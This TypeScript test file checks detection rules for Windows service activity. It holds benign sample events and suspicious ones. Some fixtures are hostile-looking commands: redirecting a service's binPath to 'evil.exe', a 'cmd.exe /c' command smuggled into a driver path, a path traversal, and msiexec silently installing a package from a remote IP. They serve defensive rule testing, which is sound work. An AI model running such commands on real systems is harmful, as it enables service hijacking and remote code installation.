import { expect } from 'chai';
import { type Fields, fired, security, services, sysmon, system } from './windows-events.ts';

const localSystem = 'S-1-5-18';

/** After public recordings of Windows 10 and 11: command lines of the tasks of Windows itself. */
const byTaskScheduler = (CommandLine: string, more: Fields = {}) =>
  sysmon(1, {
    Image: 'C:\\Windows\\System32\\sc.exe',
    CommandLine,
    ParentImage: 'C:\\Windows\\System32\\svchost.exe',
    User: 'NT AUTHORITY\\SYSTEM',
    ...more,
  });

/** After a public listing of services: name and path of Microsoft Defender's driver. */
const definitions =
  'C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{5533AFC7-64B3-4F6E-B453-E35320B35716}\\';
const driver = (ImagePath: string, more: Fields = {}) =>
  system(7045, { ServiceName: 'MpKslceeb2796', ImagePath, UserID: localSystem, ...more });
const driverBySecurity = (SubjectUserSid: string) =>
  security(4697, {
    ServiceName: 'MpKslceeb2796',
    ServiceFileName: `${definitions}MpKslDrv.sys`,
    SubjectUserSid,
  });
const driverKey = (Details: string) =>
  sysmon(13, {
    EventType: 'SetValue',
    Image: services,
    TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\MpKslceeb2796\\ImagePath',
    Details,
  });

/** After OTRF/Security-Datasets (MIT), covenant_sharpsc_create: the capture driver, switched by SYSTEM. */
const captureDriver = {
  param1: 'Microsoft NDIS Capture',
  param2: 'system start',
  param3: 'demand start',
  param4: 'NdisCap',
  UserID: localSystem,
};
const toggled = (more: Fields) =>
  system(7040, {
    param1: 'Background Intelligent Transfer Service',
    param2: 'demand start',
    param3: 'auto start',
    UserID: localSystem,
    ...more,
  });

const child = (Image: string, CommandLine = Image) =>
  sysmon(1, { Image, CommandLine, ParentImage: services, User: 'NT AUTHORITY\\SYSTEM' });
const system32 = 'C:\\Windows\\System32\\';

describe('the Windows rules on what Windows does by itself', () => {
  const quiet: [string, Fields][] = [
    [
      'Windows Update starts its service with sc.exe',
      byTaskScheduler('C:\\Windows\\system32\\sc.exe start wuauserv'),
    ],
    [
      'push to install does',
      byTaskScheduler('C:\\WINDOWS\\system32\\sc.exe start pushtoinstall registration'),
    ],
    [
      'the time service is started as LOCAL SERVICE',
      byTaskScheduler('C:\\Windows\\system32\\sc.exe start w32time task_started', {
        User: 'NT AUTHORITY\\LOCAL SERVICE',
      }),
    ],
    [
      'the same in 4688',
      security(4688, {
        NewProcessName: 'C:\\Windows\\System32\\sc.exe',
        CommandLine: 'C:\\Windows\\system32\\sc.exe start wuauserv',
        ParentProcessName: 'C:\\Windows\\System32\\svchost.exe',
        SubjectUserSid: localSystem,
      }),
    ],
    ["Defender's driver is installed", driver(`${definitions}MpKslDrv.sys`)],
    ['the same with the prefix of the object manager', driver(`\\??\\${definitions}MpKslDrv.sys`)],
    ['an older Defender’s driver is installed', driver(`${definitions}MpKsl4d223a5a.sys`)],
    ['the Security log tells of it', driverBySecurity(localSystem)],
    ['its key is written', driverKey(`\\??\\${definitions}MpKslDrv.sys`)],
    ['the capture driver is switched off again', system(7040, captureDriver)],
    ['BITS toggles its start type', toggled({ param4: 'BITS' })],
    ['BITS toggles it on Windows 7', toggled({})],
    ['taskhost.exe starts', child(`${system32}taskhost.exe`, 'taskhost.exe $(Arg0)')],
    ['wsqmcons.exe starts', child(`${system32}wsqmcons.exe`)],
    ['the installer’s service starts', child(`${system32}msiexec.exe`, `${system32}msiexec.exe /V`)],
    [
      'a COM surrogate starts',
      child(
        `${system32}dllhost.exe`,
        `${system32}dllhost.exe /Processid:{02D4B3F1-FD88-11D1-960D-00805FC79235}`,
      ),
    ],
  ];
  for (const [what, event] of quiet)
    it(`stay silent when ${what}`, () => expect(fired(event)).to.deep.equal([]));

  const command = 'proc_creation_win_service_command';
  const installed = 'system_win_service_installed';
  const startType = 'system_win_service_start_type_changed';
  const ofServices = 'proc_creation_win_child_of_services';
  const seen: [string, Fields, string][] = [
    [
      'an administrator types it',
      byTaskScheduler('sc.exe start wuauserv', {
        ParentImage: 'C:\\Windows\\System32\\cmd.exe',
        User: 'LAB\\ann',
      }),
      command,
    ],
    [
      'a shell of SYSTEM types it',
      byTaskScheduler('C:\\Windows\\system32\\sc.exe start wuauserv', {
        ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      }),
      command,
    ],
    ['a task gives it another program', byTaskScheduler('sc.exe config wuauserv binPath= evil.exe'), command],
    [
      'sc.exe lies elsewhere',
      byTaskScheduler('C:\\Temp\\sc.exe start wuauserv', { Image: 'C:\\Temp\\sc.exe' }),
      command,
    ],
    [
      'a driver called MpKsl lies elsewhere',
      driver('c:\\windows\\System32\\drivers\\MpKslDrv.sys'),
      installed,
    ],
    [
      'a path leads out of Defender’s folder',
      driver(
        'C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{x}\\..\\..\\..\\e\\MpKslDrv.sys',
      ),
      installed,
    ],
    [
      'somebody else installs it',
      driver(`${definitions}MpKslDrv.sys`, { UserID: 'S-1-5-21-1-2-3-1111' }),
      installed,
    ],
    [
      'a command has its path as an argument',
      driver(`cmd.exe /c evil ${definitions}MpKslDrv.sys`),
      installed,
    ],
    [
      'somebody else installs it, by the Security log',
      driverBySecurity('S-1-5-21-1-2-3-1111'),
      'security_win_service_installed',
    ],
    [
      'its key names another program',
      driverKey('C:\\Windows\\Temp\\evil.sys'),
      'registry_set_win_service_program',
    ],
    ['Windows Update is disabled', toggled({ param3: 'disabled', param4: 'wuauserv' }), startType],
    ['an administrator changes BITS', toggled({ param4: 'BITS', UserID: 'S-1-5-21-1-2-3-1111' }), startType],
    ['a taskhost.exe lies elsewhere', child('C:\\Users\\Public\\taskhost.exe'), ofServices],
    [
      'the installer is a service with a package',
      child(`${system32}msiexec.exe`, 'msiexec.exe /q /i http://192.0.2.1/x.msi'),
      ofServices,
    ],
    ['dllhost.exe is a service without a class', child(`${system32}dllhost.exe`, 'dllhost.exe'), ofServices],
  ];
  for (const [what, event, rule] of seen)
    it(`fire when ${what}`, () => expect(fired(event)).to.include(rule));
});
